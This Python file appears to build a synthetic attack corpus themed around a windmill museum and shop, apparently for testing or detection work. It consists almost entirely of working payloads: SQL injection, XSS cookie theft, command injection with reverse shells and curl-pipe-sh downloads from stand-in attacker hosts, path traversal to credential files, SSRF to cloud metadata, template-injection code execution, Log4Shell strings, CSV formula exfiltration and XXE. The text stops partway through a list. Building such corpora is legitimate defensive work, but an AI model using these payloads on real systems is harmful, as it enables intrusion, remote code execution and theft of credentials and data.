#!/usr/bin/env python3
"""Attack corpus for the windmill (working mill + museum) theme. Stdlib only."""
import json, os, random

SEED = 28302
rng = random.Random(SEED)
HERE = os.path.dirname(os.path.abspath(__file__))

SQLI = [
    ("union", "wholemeal' UNION SELECT sku,cost_price,supplier_email,NULL FROM stock_items-- -"),
    ("union", "spelt 1.5kg' union all select username,password_hash,3,4 from volunteers#"),
    ("union", "WM-2291' UnIoN SeLeCt 1,group_concat(email SEPARATOR 0x3a),3 FROM members-- x"),
    ("union", "rye') union select table_name,column_name,null from information_schema.columns where table_schema=database()-- "),
    ("union", "-1 UNION/**/SELECT/**/card_last4,expiry,name/**/FROM/**/payments"),
    ("union", "oatmeal%27%20UNION%20SELECT%20null,version(),null--%20"),
    ("union", "flour\" UNION SELECT 1,sqlite_version(),3 --"),
    ("union", "Brook Lane Academy' UNION SELECT contact_phone,dbs_ref,NULL FROM school_bookings WHERE '1'='1"),
    ("union", "0 union select 1,load_file('/etc/passwd'),3"),
    ("union", "WM-WHL-16' /*!50000UNION*/ /*!50000SELECT*/ 1,@@version,3-- -"),
    ("union", "heritage blend')) UNION SELECT NULL,string_agg(usename,','),NULL FROM pg_user--"),
    ("union", "Tea towel' union select top 1 name,null,null from sys.tables--"),
    ("boolean", "SV-0442' AND 1=1-- "),
    ("boolean", "SV-0442' AND 1=2-- "),
    ("boolean", "WM-2305' OR '1'='1"),
    ("boolean", "admin'--"),
    ("boolean", "Priya' or 1=1 limit 1 -- -"),
    ("boolean", "spelt' AND SUBSTRING((SELECT password FROM staff WHERE role='head_miller'),1,1)='a'-- "),
    ("boolean", "batch 415' and ascii(substr((select api_key from settings limit 1),3,1))>77 and 'x'='x"),
    ("boolean", "1 AND (SELECT COUNT(*) FROM volunteers)>10"),
    ("boolean", "rye\" or \"\"=\""),
    ("boolean", "x' OR 'mill' LIKE 'm%"),
    ("boolean", "42 or true"),
    ("boolean", "' || 1=1 /*"),
    ("boolean", "Margaret'/**/oR/**/2>1#"),
    ("boolean", "1' aNd 'a'<'b"),
    ("time", "WM-2317'; SELECT pg_sleep(7)--"),
    ("time", "rye' AND SLEEP(6)-- -"),
    ("time", "1' AND (SELECT 4211 FROM (SELECT(SLEEP(5)))ab)-- wXyz"),
    ("time", "Year 3'; WAITFOR DELAY '0:0:8'--"),
    ("time", "wholemeal' and if(substring(user(),1,1)='r',benchmark(6000000,md5('mill')),0)-- "),
    ("time", "1) or sleep(4)#"),
    ("time", "oats' || pg_sleep(10) || '"),
    ("time", "1;select case when (1=1) then pg_sleep(5) else pg_sleep(0) end--"),
    ("time", "x' AND 7=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(500000000/2))))--"),
    ("time", "SV-0450' and dbms_pipe.receive_message('a',9)=1--"),
    ("stacked", "WM-2320'; DROP TABLE flour_orders;--"),
    ("stacked", "Aled'; UPDATE volunteers SET role='admin' WHERE name='Aled';--"),
    ("stacked", "12; INSERT INTO staff(username,password,role) VALUES('mill','x','admin')--"),
    ("stacked", "1'; EXEC xp_cmdshell 'powershell -c iwr http://attacker.example/m.ps1|iex';--"),
    ("stacked", "a'; COPY (SELECT '') TO PROGRAM 'curl http://198.51.100.23/p|sh';--"),
    ("stacked", "stock';TRUNCATE shop_stock;--"),
    ("stacked", "WM-RYE-4'; DELETE FROM orders WHERE 1=1; --"),
    ("stacked", "1; ATTACH DATABASE '/var/www/mill/static/x.php' AS pwn; CREATE TABLE pwn.t(d text); INSERT INTO pwn.t VALUES('<?php system($_GET[c]); ?>');--"),
    ("error", "WM-2291' AND extractvalue(1,concat(0x7e,(SELECT database()),0x7e))-- "),
    ("error", "1 and updatexml(null,concat(0x0a,(select password from users limit 0,1)),null)"),
    ("error", "spelt' AND 1=CONVERT(int,(SELECT TOP 1 email FROM members))--"),
    ("error", "x' AND 1=CAST((SELECT string_agg(password,',') FROM staff) AS int)--"),
    ("error", "' and (select 1 from(select count(*),concat((select user()),floor(rand(0)*2))x from information_schema.tables group by x)a)-- "),
    ("error", "batch 420' AND 1=(SELECT 1/0 FROM dual WHERE (SELECT substr(banner,1,1) FROM v$version WHERE rownum=1)='O')--"),
    ("orderby", "qty DESC, (SELECT CASE WHEN (SELECT substr(password,1,1) FROM staff LIMIT 1)='m' THEN price ELSE sku END)"),
    ("orderby", "price,(select sleep(3) from dual where database() like 'mill%')"),
    ("orderby", "name ORDER BY 9-- "),
    ("orderby", "surname, IF(1=1,surname,(select 1 union select 2))"),
    ("obfuscated", "rye'/*!UNION*//*!SELECT*/1,2,3/*"),
    ("obfuscated", "wholemeal'%0aunion%0aselect%0a1,2,3--%0a"),
    ("obfuscated", "spelt' UnI%6fN SeL%65cT 1,2-- "),
    ("obfuscated", "1'%2f%2a%2a%2fOR%2f%2a%2a%2f1%3d1%23"),
    ("obfuscated", "x'%252f%252a*/union%252f%252a*/select 1,2-- "),
    ("obfuscated", "WM-2291%EF%BC%87 OR 1=1-- "),
    ("obfuscated", "spelt\u02bc OR 1=1 --"),
    ("obfuscated", "1'\tOR\t'a'='a"),
    ("obfuscated", "wholemeal'+uNiOn+aLl+sElEcT+null,user(),null--+"),
    ("obfuscated", "x' or char(109)||char(105)=char(109)||char(105)-- "),
    ("obfuscated", "1' OR 0x6d696c6c=0x6d696c6c#"),
    ("obfuscated", "spelt' OR 1 REGEXP 1-- "),
    ("second-order", "O'Connell's Bakehouse'), ('Evil Co', (SELECT password FROM staff LIMIT 1))-- "),
    ("second-order", "Name: Dot', is_admin=1, notes='"),
    ("oob", "x'; SELECT LOAD_FILE(CONCAT('\\\\\\\\',(SELECT password FROM staff LIMIT 1),'.dns.attacker.example\\\\a'))-- "),
    ("oob", "1'; declare @q varchar(99);set @q='\\\\'+(select top 1 name from sys.databases)+'.x.attacker.example\\s';exec master..xp_dirtree @q;--"),
    ("oob", "wholemeal' UNION SELECT UTL_HTTP.request('http://attacker.example/'||(SELECT user FROM dual)) FROM dual--"),
    ("json", "{\"sku\": \"WM-WHL-16' OR JSON_EXTRACT('{\\\"a\\\":1}','$.a')=1-- \"}"),
]
SQLI_ENC_POOL = [
    "spelt' OR '1'='1'-- ",
    "1 UNION SELECT username,password FROM staff",
    "rye' AND SLEEP(5)#",
    "WM-2291'; DROP TABLE orders-- ",
    "x' AND extractvalue(1,concat(0x7e,user()))-- ",
    "' or 1=1 limit 1#",
    "0) UNION SELECT null,table_name FROM information_schema.tables-- ",
    "SV-0442' WAITFOR DELAY '0:0:6'-- ",
]

XSS = [
    ("script-tag", "Lovely visit! <script>fetch('https://attacker.example/c?k='+document.cookie)</script>"),
    ("script-tag", "Great scones<script src=//attacker.example/m.js></script>"),
    ("script-tag", "<ScRiPt>new Image().src='http://203.0.113.9/l?'+localStorage.getItem('token')</sCrIpT>"),
    ("script-tag", "Ask the miller </textarea><script>alert(document.domain)</script>"),
    ("script-tag", "<script>eval(atob('ZmV0Y2goJy8vYXR0YWNrZXIuZXhhbXBsZScp'))</script>"),
    ("script-tag", "<script\n>top['al'+'ert'](1)</script\n>"),
    ("event-handler", "<img src=x onerror=\"location='//attacker.example/?'+document.cookie\">"),
    ("event-handler", "Mill photo <img src=/nope.jpg onerror=alert`1`>"),
    ("event-handler", "<svg onload=fetch('//attacker.example/'+document.cookie)>"),
    ("event-handler", "<body onpageshow=alert(1)>"),
    ("event-handler", "<details open ontoggle=confirm(document.cookie)>"),
    ("event-handler", "<input autofocus onfocus=alert(origin)>"),
    ("event-handler", "<video><source onerror=\"javascript:alert(2)\"></video>"),
    ("event-handler", "<marquee onstart=alert(1)>sails turning</marquee>"),
    ("event-handler", "<div style=\"width:1000px;height:1000px\" onmouseover=\"alert(1)\">Hover for the windmill tour</div>"),
    ("event-handler", "<audio src=1 onerror=import('//attacker.example/x.js')>"),
    ("event-handler", "<iMg SrC=x OnErRoR=prompt(1)>"),
    ("event-handler", "<img/src/onerror=alert(1)>"),
    ("event-handler", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("event-handler", "<select autofocus onfocus=alert(1)><option>Year 3</option></select>"),
    ("event-handler", "<textarea autofocus onfocus=fetch('//attacker.example/k',{method:'POST',body:document.body.innerHTML})>"),
    ("event-handler", "<body onload=alert('windmill')>"),
    ("attr-breakout", "Tom\" onmouseover=\"alert(1)"),
    ("attr-breakout", "WM-WHL-16' autofocus onfocus='alert(document.cookie)"),
    ("attr-breakout", "\"><img src=x onerror=alert(1)>"),
    ("attr-breakout", "spelt\"><svg/onload=alert(1)>"),
    ("attr-breakout", "'><script>alert(String.fromCharCode(77,73,76,76))</script>"),
    ("attr-breakout", "x\" style=\"animation-name:rotation\" onanimationstart=\"alert(1)"),
    ("attr-breakout", "\" accesskey=\"x\" onclick=\"alert(1)\" x=\""),
    ("js-context", "';alert(document.cookie);//"),
    ("js-context", "\";fetch('//attacker.example/?c='+document.cookie);//"),
    ("js-context", "</script><script>alert(1)</script>"),
    ("js-context", "${alert(1)}`;alert(2);`"),
    ("js-context", "\\';alert(1);//"),
    ("js-context", "-alert(1)-"),
    ("js-context", "Priya'-confirm(1)-'"),
    ("url-scheme", "javascript:alert(document.cookie)"),
    ("url-scheme", "JaVaScRiPt:fetch('//attacker.example/'+document.cookie)"),
    ("url-scheme", "java\tscript:alert(1)"),
    ("url-scheme", "<a href=\"javascript&colon;alert(1)\">our photos</a>"),
    ("url-scheme", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">mill album</a>"),
    ("url-scheme", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    ("url-scheme", "<iframe src=\"data:text/html,<script>alert(parent.document.cookie)</script>\"></iframe>"),
    ("url-scheme", "<form action=javascript:alert(1)><button>Book visit</button></form>"),
    ("url-scheme", "<object data=\"javascript:alert(1)\"></object>"),
    ("url-scheme", "<embed src=\"//attacker.example/x.svg\">"),
    ("url-scheme", "[Our photos](javascript:alert(document.domain))"),
    ("url-scheme", "![mill](x\" onerror=\"alert(1))"),
    ("url-scheme", "<a href=\"  javascript:alert(1)\">click</a>"),
    ("encoded", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    ("encoded", "%253Csvg%2520onload%253Dalert(1)%253E"),
    ("encoded", "&lt;img src=x onerror=alert(1)&gt;"),
    ("encoded", "\\u003cimg src=x onerror=alert(1)\\u003e"),
    ("encoded", "\\x3csvg onload=alert(1)\\x3e"),
    ("encoded", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>"),
    ("encoded", "<img src=x onerror=\"&#x61;lert(1)\">"),
    ("encoded", "＜script＞alert(1)＜/script＞"),
    ("encoded", "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE"),
    ("encoded", "%u003Cscript%u003Ealert(1)%u003C/script%u003E"),
    ("encoded", "<svg><script>&#x61;&#x6c;&#x65;&#x72;&#x74;(1)</script></svg>"),
    ("filter-evasion", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("filter-evasion", "<svg/onload=self[`al`+`ert`](1)>"),
    ("filter-evasion", "<img src=x onerror=window['\\x61lert'](1)>"),
    ("filter-evasion", "<img src=x onerror=Function('ale'+'rt(1)')()>"),
    ("filter-evasion", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("filter-evasion", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("filter-evasion", "<svg><style><img src=x onerror=alert(1)></style></svg>"),
    ("filter-evasion", "<x onclick=alert(1)>click the sails</x>"),
    ("filter-evasion", "<a/href=\"j&#x61;vascript:alert(1)\">x</a>"),
    ("dom-template", "{{constructor.constructor('alert(1)')()}}"),
    ("dom-template", "<div ng-app ng-csp><input autofocus ng-focus=$event.view.alert(1)>"),
]
XSS_PREFIX = ["Loved the tour! ", "Re: school booking -- ", "Order note: ", "Rota swap please ", "Batch 430 comment: ", "Search: spelt "]
XSS_POOL = [
    "<img src=1 onerror=alert(document.cookie)>",
    "<svg onload=alert(1)>",
    "<script>document.location='//attacker.example/?'+document.cookie</script>",
    "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
    "<details ontoggle=alert(1) open>",
    "\"><script>alert(1)</script>",
]

CMDI = [
    ("separator", "mill_1934.jpg; cat /etc/passwd"),
    ("separator", "batch-415.pdf;id"),
    ("separator", "photo.png && curl -s http://attacker.example/s.sh | sh"),
    ("separator", "report.csv | nc 203.0.113.5 4444 -e /bin/sh"),
    ("separator", "IMG_4412.JPG || wget -qO- http://198.51.100.7/x | bash"),
    ("separator", "stock.csv & whoami"),
    ("separator", "x.jpg%0aid"),
    ("separator", "scan.tif\nuname -a"),
    ("separator", "labels.pdf;rm -rf /var/www/mill/uploads/*"),
    ("separator", "x; bash -i >& /dev/tcp/203.0.113.44/9001 0>&1"),
    ("separator", "a.png;python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.2\",443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
    ("separator", "mill.jpg; php -r '$s=fsockopen(\"attacker.example\",4242);exec(\"/bin/sh -i <&3 >&3 2>&3\");'"),
    ("separator", "x|perl -e 'print `cat /etc/shadow`'"),
    ("separator", "ticket.txt ; ls -la /home"),
    ("separator", "photo.jpg;echo c3NoLWtleSBBQUFB|base64 -d>>~/.ssh/authorized_keys"),
    ("separator", "foo && crontab -l | { cat; echo '* * * * * curl attacker.example/b|sh'; } | crontab -"),
    ("substitution", "wholemeal $(cat /etc/passwd)"),
    ("substitution", "Batch `id` notes"),
    ("substitution", "$(curl http://attacker.example/`whoami`)"),
    ("substitution", "Aled$(sleep 9)"),
    ("substitution", "x`nslookup $(hostname).dns.attacker.example`"),
    ("substitution", "scan_$(printf '\\x63\\x61\\x74') /etc/hosts"),
    ("substitution", "${IFS}cat${IFS}/etc/passwd"),
    ("substitution", "report$(echo${IFS}aWQ=|base64${IFS}-d|sh).pdf"),
    ("substitution", "name=$(env|curl -d @- attacker.example)"),
    ("evasion", "x;c'a't /e't'c/pa's'swd"),
    ("evasion", "x;c\\at /et\\c/pass\\wd"),
    ("evasion", "img.jpg;/???/c?t /???/p??s??"),
    ("evasion", "x;{cat,/etc/passwd}"),
    ("evasion", "a;w\"h\"o\"a\"m\"i"),
    ("evasion", "x;$0<<<$'\\x69\\x64'"),
    ("evasion", "x;cat$IFS$9/etc/passwd"),
    ("evasion", "x;c$@at /etc/shadow"),
    ("evasion", "x;ca${u}t /e${x}tc/group"),
    ("evasion", "x;/bin/ba?h -c 'id'"),
    ("evasion", "x;$(tr 'a-z' 'n-za-m' <<< 'vq')"),
    ("evasion", "x;a=ca;b=t;$a$b /etc/passwd"),
    ("evasion", "x%3Bcat%20%2Fetc%2Fpasswd"),
    ("evasion", "x%253Bid"),
    ("evasion", "x;curl${IFS}-o${IFS}/tmp/m${IFS}attacker.example/m;sh${IFS}/tmp/m"),
    ("blind", "photo.jpg; sleep 12 #"),
    ("blind", "x || ping -c 15 127.0.0.1"),
    ("blind", "x; ping -c1 `whoami`.attacker.example"),
    ("blind", "x && dig +short $(id -u).oob.attacker.example"),
    ("blind", "a;curl -X POST --data-binary @/etc/passwd http://attacker.example/up"),
    ("blind", "x; wget --post-file=/var/www/mill/.env http://198.51.100.31/"),
    ("windows", "mill.jpg & type C:\\Windows\\win.ini"),
    ("windows", "x | powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/a')\""),
    ("windows", "report.pdf && net user millhack P4ss! /add"),
    ("windows", "x & certutil -urlcache -split -f http://203.0.113.8/s.exe %TEMP%\\s.exe & %TEMP%\\s.exe"),
    ("windows", "x|cmd /c dir C:\\Users"),
    ("windows", "x & p^o^w^e^r^s^h^e^l^l -c whoami"),
    ("windows", "x%26%26whoami"),
    ("windows", "x & set /p=<%USERPROFILE%\\.ssh\\id_rsa"),
    ("windows", "a.csv & mshta http://attacker.example/p.hta"),
    ("argument", "-o /var/www/mill/static/s.php http://attacker.example/s.txt"),
    ("argument", "--output=/tmp/x --post-file=/etc/passwd"),
    ("argument", "-exec sh -c 'id' ;"),
    ("argument", "--checkpoint=1 --checkpoint-action=exec=sh shell.sh"),
    ("argument", "-oProxyCommand=curl attacker.example/p|sh"),
    ("argument", "x -I attacker.example --upload-file /etc/passwd"),
    ("argument", "mill_photo.jpg -write /var/www/html/x.php"),
    ("argument", "--use-compress-program='sh -c id'"),
    ("imagemagick", "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://attacker.example/x.jpg\"|curl \"attacker.example/p|sh)'\npop graphic-context"),
]
CMDI_PREFIX = ["mill_photo_", "batch_431", "stock-export", "school-letter", "IMG_5520.JPG"]
CMDI_POOL = [
    ";cat /etc/passwd",
    "|id",
    "$(whoami)",
    "`uname -a`",
    " && curl attacker.example/x|sh",
    "%0Acat%20/etc/shadow",
]

TRAVERSAL = [
    ("dotdot", "../../../../etc/passwd"),
    ("dotdot", "mill_1934.jpg/../../../../../etc/shadow"),
    ("dotdot", "../../../var/www/mill/.env"),
    ("dotdot", "../../config/database.yml"),
    ("dotdot", "..\\..\\..\\windows\\win.ini"),
    ("dotdot", "archive/donations/1999/../../../../../../root/.ssh/id_rsa"),
    ("dotdot", "templates/newsletter/../../../../proc/self/environ"),
    ("dotdot", "../../../../../../../../../../etc/hosts"),
    ("dotdot", "./../.././../etc/passwd"),
    ("dotdot", "../../../home/miller/.bash_history"),
    ("dotdot", "stock-2024/..\\..\\..\\inetpub\\wwwroot\\web.config"),
    ("dotdot", "../../../../var/log/nginx/access.log"),
    ("dotdot", "/../../../../proc/self/cmdline"),
    ("dotdot", "../../../app/settings.py"),
    ("absolute", "/etc/passwd"),
    ("absolute", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("absolute", "file:///etc/passwd"),
    ("absolute", "\\\\203.0.113.14\\share\\x.jpg"),
    ("absolute", "/proc/self/fd/3"),
    ("absolute", "/var/www/mill/storage/backups/collection.sql"),
    ("encoded", "..%2f..%2f..%2f..%2fetc%2fpasswd"),
    ("encoded", "%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    ("encoded", "..%252f..%252f..%252fetc%252fpasswd"),
    ("encoded", "%252e%252e%252f%252e%252e%252fetc/shadow"),
    ("encoded", "..%c0%af..%c0%af..%c0%afetc/passwd"),
    ("encoded", "..%c1%9c..%c1%9c..%c1%9cboot.ini"),
    ("encoded", "..%u2216..%u2216..%u2216windows%u2216win.ini"),
    ("encoded", "%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd"),
    ("encoded", "..%5c..%5c..%5cwindows%5cwin.ini"),
    ("encoded", "．．／．．／．．／etc／passwd"),
    ("encoded", "..%e0%80%af..%e0%80%afetc%e0%80%afpasswd"),
    ("encoded", "%2e%2e%5c%2e%2e%5cweb.config"),
    ("filter-evasion", "....//....//....//etc/passwd"),
    ("filter-evasion", "..././..././..././etc/passwd"),
    ("filter-evasion", "....\\\\....\\\\....\\\\windows\\\\win.ini"),
    ("filter-evasion", "../../../etc/passwd%00.jpg"),
    ("filter-evasion", "../../../../etc/passwd\\u0000.pdf"),
    ("filter-evasion", "/var/www/mill/uploads/../../../../etc/passwd"),
    ("filter-evasion", "..;/..;/..;/WEB-INF/web.xml"),
    ("filter-evasion", "/static/..%2f..%2f..%2fetc/passwd"),
    ("wrapper", "php://filter/convert.base64-encode/resource=../config.php"),
    ("wrapper", "php://filter/read=string.rot13/resource=index.php"),
    ("wrapper", "zip://uploads/mill_photos.zip%23shell.php"),
    ("wrapper", "phar://uploads/stock.csv/x.txt"),
]
TRAV_ENC_POOL = [
    "../../../etc/passwd",
    "../../../../var/www/mill/.env",
    "..\\..\\..\\windows\\win.ini",
    "../../../../proc/self/environ",
    "../../../root/.ssh/id_rsa",
    "../../config/secrets.yml",
]

SSRF = [
    ("cloud-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("cloud-metadata", "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token"),
    ("cloud-metadata", "http://metadata.google.internal/computeMetadata/v1/project/project-id"),
    ("cloud-metadata", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("cloud-metadata", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("cloud-metadata", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("cloud-metadata", "http://169.254.170.2/v2/credentials/"),
    ("loopback", "http://127.0.0.1:8080/admin/volunteers/export"),
    ("loopback", "http://localhost/server-status"),
    ("loopback", "http://localhost:6379/"),
    ("loopback", "http://[::1]:9200/_cat/indices"),
    ("loopback", "http://0.0.0.0:2375/containers/json"),
    ("loopback", "http://127.1/phpmyadmin/"),
    ("loopback", "https://localhost.:8443/actuator/env"),
    ("internal", "http://10.0.0.5/booking/api/internal/bookings?all=1"),
    ("internal", "http://192.168.1.1/cgi-bin/config.exp"),
    ("internal", "http://172.16.0.10:5984/_all_dbs"),
    ("internal", "http://museum-nas.local:5000/webapi/entry.cgi"),
    ("internal", "http://collection-db:5432/"),
    ("internal", "http://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    ("internal", "http://consul:8500/v1/kv/?recurse"),
    ("alt-ip", "http://2130706433/admin"),
    ("alt-ip", "http://0x7f000001/"),
    ("alt-ip", "http://017700000001:8000/"),
    ("alt-ip", "http://0x7f.0.0.1/"),
    ("alt-ip", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("alt-ip", "http://2852039166/latest/user-data"),
    ("alt-ip", "http://[::ffff:a9fe:a9fe]/latest/meta-data/"),
    ("alt-ip", "http://[0:0:0:0:0:ffff:127.0.0.1]:8080/"),
    ("alt-ip", "http://①②⑦.⓪.⓪.①/"),
    ("alt-ip", "http://127.000.000.001/"),
    ("parser-confusion", "http://photos.example.com@127.0.0.1/admin"),
    ("parser-confusion", "http://attacker.example#@photos.example.com/album"),
    ("parser-confusion", "http://photos.example.com.attacker.example/"),
    ("parser-confusion", "http://127.0.0.1\\@photos.example.com/"),
    ("parser-confusion", "http://169.254.169.254%2f@photos.example.com/"),
    ("parser-confusion", "http://localtest.me/admin"),
    ("parser-confusion", "http://169.254.169.254.nip.io/latest/meta-data/"),
    ("parser-confusion", "http://rebind.attacker.example/latest/meta-data/"),
    ("redirect", "https://attacker.example/r?to=http://169.254.169.254/latest/meta-data/"),
    ("redirect", "http://203.0.113.50/302.php?u=http://127.0.0.1:8080/"),
    ("scheme", "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A"),
    ("scheme", "gopher://localhost:25/_MAIL%20FROM:%3Cmill@attacker.example%3E"),
    ("scheme", "dict://127.0.0.1:11211/stats"),
    ("scheme", "file:///var/www/mill/.env"),
    ("scheme", "ftp://10.0.0.8/backups/collection.sql"),
    ("scheme", "ldap://127.0.0.1:389/dc=mill"),
    ("scheme", "jar:http://attacker.example/x.zip!/x"),
    ("scheme", "netdoc:///etc/passwd"),
    ("embedded", "Photos from our visit: http://169.254.169.254/latest/meta-data/ (please import the album)"),
]

CODE = [
    ("ssti-jinja", "Hello {{ config.items() }}"),
    ("ssti-jinja", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
    ("ssti-jinja", "Dear {{ cycler.__init__.__globals__.os.popen('cat /etc/passwd').read() }},"),
    ("ssti-jinja", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("ssti-jinja", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').system('id') }}{% endif %}{% endfor %}"),
    ("ssti-jinja", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}"),
    ("ssti-jinja", "{{ lipsum.__globals__['os'].popen('curl attacker.example/j|sh').read() }}"),
    ("ssti-jinja", "{{ namespace.__init__.__globals__.os.environ }}"),
    ("ssti-twig", "{{ ['id']|filter('system') }}"),
    ("ssti-twig", "{{ _self.env.registerUndefinedFilterCallback('exec') }}{{ _self.env.getFilter('id') }}"),
    ("ssti-twig", "{{ ['cat /etc/passwd']|map('passthru')|join }}"),
    ("ssti-freemarker", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ ex(\"id\") }"),
    ("ssti-freemarker", "${\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.lang.ProcessBuilder\",[\"id\"]).start()}"),
    ("ssti-velocity", "#set($x=$class.inspect('java.lang.Runtime').type.getRuntime().exec('id'))$x"),
    ("ssti-erb", "Dear <%= `cat /etc/passwd` %>"),
    ("ssti-erb", "<%= File.read('/var/www/mill/config/secrets.yml') %>"),
    ("ssti-erb", "<%= system('curl attacker.example/e|sh') %>"),
    ("ssti-smarty", "{system('id')}"),
    ("ssti-smarty", "{php}echo shell_exec('id');{/php}"),
    ("ssti-mako", "${ __import__('os').popen('id').read() }"),
    ("ssti-handlebars", "{{#with \"s\" as |string|}}{{#with (string.sub.apply 0 \"constructor\")}}{{this.constructor \"return process.mainModule.require('child_process').execSync('id')\"}}{{/with}}{{/with}}"),
    ("ssti-pug", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("ssti-thymeleaf", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("ssti-razor", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")"),
    ("ssti-tornado", "{% import os %}{{ os.popen('id').read() }}"),
    ("el", "${T(java.lang.Runtime).getRuntime().exec('curl attacker.example/s')}"),
    ("el", "#{''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("el", "${pageContext.request.getSession().setAttribute('admin',true)}"),
    ("el", "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}"),
    ("el", "${applicationScope}"),
    ("el", "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}"),
    ("el", "${\"\".getClass().forName(\"javax.script.ScriptEngineManager\").newInstance().getEngineByName(\"js\").eval(\"1\")}"),
    ("log4shell", "${jndi:ldap://attacker.example:1389/mill}"),
    ("log4shell", "Batch 431 ${jndi:rmi://203.0.113.77/o}"),
    ("log4shell", "${${lower:j}ndi:${lower:l}dap://attacker.example/a}"),
    ("log4shell", "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://198.51.100.9/x}"),
    ("log4shell", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}"),
    ("log4shell", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/z}"),
    ("log4shell", "Visitor name: ${jndi:ldaps://x.attacker.example/${sys:java.version}}"),
    ("log4shell", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fq%7D"),
    ("eval", "__import__('os').system('id')"),
    ("eval", "1+1;require('child_process').exec('curl attacker.example/n|sh')"),
    ("eval", "eval(compile('import os;os.system(\"id\")','x','exec'))"),
    ("eval", "qty=1; system('cat /etc/passwd'); //"),
    ("eval", "');phpinfo();//"),
    ("eval", "<?php system($_GET['c']); ?>"),
    ("eval", "<?=`$_POST[x]`?>"),
    ("eval", "process.binding('spawn_sync').spawn({file:'/bin/sh',args:['sh','-c','id'],stdio:[{type:'pipe',readable:1}]})"),
    ("eval", "this.constructor.constructor('return process')().mainModule.require('fs').readFileSync('/etc/passwd')"),
    ("eval", "16*price\"; os.execute('id'); --"),
    ("eval", "[].__class__.__base__.__subclasses__()[132].__init__.__globals__['popen']('id').read()"),
    ("eval", "Runtime.getRuntime().exec(new String[]{\"sh\",\"-c\",\"id\"})"),
    ("prototype-pollution", "{\"__proto__\": {\"isAdmin\": true}}"),
    ("prototype-pollution", "{\"constructor\": {\"prototype\": {\"role\": \"admin\"}}}"),
    ("prototype-pollution", "__proto__[isAdmin]=true"),
    ("prototype-pollution", "constructor[prototype][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');//"),
    ("prototype-pollution", "{\"sku\":\"WM-WHL-16\",\"__proto__\":{\"shell\":\"/proc/self/exe\",\"NODE_OPTIONS\":\"--require /proc/self/environ\"}}"),
    ("prototype-pollution", "__proto__.toString=1"),
    ("csv-formula", "=cmd|' /C calc'!A0"),
    ("csv-formula", "=HYPERLINK(\"http://attacker.example/?d=\"&A2&B2,\"Click for price list\")"),
    ("csv-formula", "+SUM(1+1)*cmd|' /C powershell iwr attacker.example/x'!A1"),
    ("csv-formula", "-2+3+cmd|' /C notepad'!'B1'"),
    ("csv-formula", "@SUM(1+9)*cmd|' /C calc'!A0"),
    ("csv-formula", "WM-EVIL-1,\"=IMPORTXML(CONCAT(\"\"http://attacker.example/?\"\",A1:C9),\"\"//a\"\")\",5,3.40"),
    ("csv-formula", "=WEBSERVICE(\"http://203.0.113.3/leak?\"&ENCODEURL(C2))"),
    ("csv-formula", "\t=1+1+cmd|' /c whoami'!Z1"),
    ("csv-formula", "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")"),
    ("xxe", "<?xml version=\"1.0\"?><!DOCTYPE o [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><order><sku>&x;</sku></order>"),
    ("xxe", "<!DOCTYPE r [<!ENTITY % d SYSTEM \"http://attacker.example/e.dtd\"> %d;]><r>1</r>"),
    ("xxe", "<?xml version=\"1.0\"?><!DOCTYPE s [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><stock><name>&m;</name></stock>"),
    ("xxe", "<!DOCTYPE b [<!ENTITY a \"mill\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\">]><b>&c;</b>"),
